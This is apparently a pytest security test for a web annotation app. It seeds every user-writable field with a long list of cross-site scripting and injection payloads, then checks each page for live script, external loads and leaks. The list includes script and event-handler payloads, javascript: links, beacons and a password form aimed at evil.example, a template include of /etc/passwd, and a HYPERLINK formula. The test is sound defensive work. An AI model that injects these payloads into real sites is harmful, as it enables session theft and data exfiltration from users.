"""Texts of others are text: whatever stands in a name, a question, an answer or a file name, no page runs it."""

import re
import shutil
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from app.models import JudgmentNote
from app.services.projects.projects import change_guidelines
from tests.furniture.assigning import assign_best_batch
from tests.furniture.factories import Make
from tests.furniture.routes import ALLOWED, ROUTES
from tests.furniture.site import moved
from tests.furniture.two_projects import make_full_project

PAYLOADS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<style>@import '//evil.example/x.css'</style>",
    '<p style="background:url(//evil.example/x)">',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1)",
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    "${alert(1)}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.example)",
    "![x](//evil.example/canary.png)",
    "![x](https://evil.example/canary.png)",
    "![x](javascript:alert(1))",
    '<https://evil.example/" onmouseover=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "```\n</code><script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    '=HYPERLINK("//evil.example")',
]
ADDRESSES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "xlink:href",
    "srcset",
    "background",
    "cite",
}
HARMLESS = ("/", "#", "?", "https://", "http://")


class Findings(HTMLParser):
    """What in a page could run, load or send anything."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        if tag in {
            "iframe",
            "object",
            "embed",
            "base",
            "style",
            "template",
            "math",
            "marquee",
            "video",
            "audio",
        }:
            self.found.append(tag)
        if (tag == "script" and not (given.get("src") or "").startswith("/static/")) or (
            tag == "meta" and "http-equiv" in given and given["http-equiv"] != "refresh"
        ):
            self.found.append(self.get_starttag_text())
        if tag in {"img", "link", "script", "source"} and not (
            # Images of answers come from this site, below their project.
            re.match(r"/static/|/p/[a-z-]+/images/[\w-]+$", given.get("src") or given.get("href") or "")
        ):
            self.found.append(self.get_starttag_text())
        for name, value in given.items():
            target = (value or "").strip().lower()
            loads = name in ADDRESSES and target and not target.startswith(HARMLESS)
            if name.startswith("on") or name in {"style", "srcdoc"} or loads:
                self.found.append(self.get_starttag_text())
            if name in {"action", "formaction"} and target.startswith(("//", "http")):
                self.found.append(self.get_starttag_text())
            leads_out = name == "href" and target.startswith(("//", "http"))
            if leads_out and not (tag == "a" and "noreferrer" in (given.get("rel") or "")):
                self.found.append(self.get_starttag_text())


def test_the_finder_finds():
    """Of the payloads, all that are HTML are found where they stand as HTML."""
    html = [one for one in PAYLOADS if re.match(r"<[a-z]", one) and "alert" in one and "noscript" not in one]

    assert [one for one in html if not Findings(one).found] == []
    assert Findings("<p>text</p><a href='/x'>x</a>").found == []


# With which payload the first field is filled: the others follow, so each field meets three of them.
@pytest.fixture(scope="module", params=[0, 19, 38])
def infected(request, shared_app, sqlite_template, tmp_path_factory):
    """Give the application over a project in which every text that somebody can write is a payload."""
    folder = tmp_path_factory.mktemp("infected")
    (folder / "uploads").mkdir()
    copy = shutil.copyfile(sqlite_template, folder / "infected.sqlite3")
    words = iter(PAYLOADS[request.param :] + PAYLOADS)
    with moved(shared_app, folder, f"sqlite:///{copy}") as database:
        with database.write() as session:
            make = Make(session)
            admin = make.person(next(words), is_admin=True)
            full_project = make_full_project(make, "here", admin)
            project = full_project.project
            project.name, project.headline = next(words), next(words)
            project.grade_words = [{"word": next(words), "meaning": next(words)} for _ in project.grades]
            project.wording = {"query": next(words), "document": next(words)}
            change_guidelines(session, project, "\n\n".join(PAYLOADS))
            for person in (
                full_project.owner,
                full_project.annotator,
                full_project.viewer,
                *full_project.graders,
            ):
                person.name = next(words)
            infect(session, words)
            assign_best_batch(session, project.id, full_project.annotator.id)
        yield shared_app, full_project, admin


def infect(session, words):
    from app.models import Document, Flag, Query, Ranker, Run, Upload

    fields = {
        Query: ("text", "intent"),
        Document: ("title", "text", "url", "source"),
        Ranker: ("name",),
        Run: ("version", "tag", "note"),
        Upload: ("file_name",),
        JudgmentNote: ("text",),
        Flag: ("text",),
    }
    for table, names in fields.items():
        for row in session.scalars(select(table)):
            for name in names:
                setattr(row, name, next(words, PAYLOADS[0])[:90] + ("" if name != "name" else str(row.id)))
    for query in session.scalars(select(Query)):
        query.tags = PAYLOADS[:3]


@pytest.mark.parametrize("name", ["annotator", "owner", "viewer"])
@pytest.mark.thorough
def test_nothing_that_somebody_wrote_runs_loads_or_sends_anything_on_a_page_or_as_data(infected, name):
    app, full_project, _ = infected
    person = getattr(full_project, name)
    client = app.test_client()
    with client.session_transaction() as session:
        session["person"], session["epoch"] = person.id, person.session_epoch
    seen = 0
    for route in ROUTES:
        if route.method != "GET" or name not in ALLOWED[route.row.access]:
            continue
        reply = route.ask(client, full_project.parts(person), follow_redirects=True)
        assert reply.status_code < 500, str(route)
        if reply.mimetype == "text/html":
            assert Findings(reply.text).found == [], str(route)
            assert "49" not in re.findall(r"\{\{ 7\*7 \}\}|\b49\b(?=\{)", reply.text), str(route)
            seen += "alert(1)" in reply.text
            continue
        # A browser that asks for data never takes it for a page.
        assert reply.headers["X-Content-Type-Options"] == "nosniff", str(route)
        if "alert(1)" in reply.get_data(as_text=True):
            is_safe = reply.mimetype in {"application/json", "application/problem+json"}
            is_file = reply.headers.get("Content-Disposition", "").startswith("attachment")
            assert is_safe or is_file, str(route)
    assert seen > 5, "the payloads are there, as text"
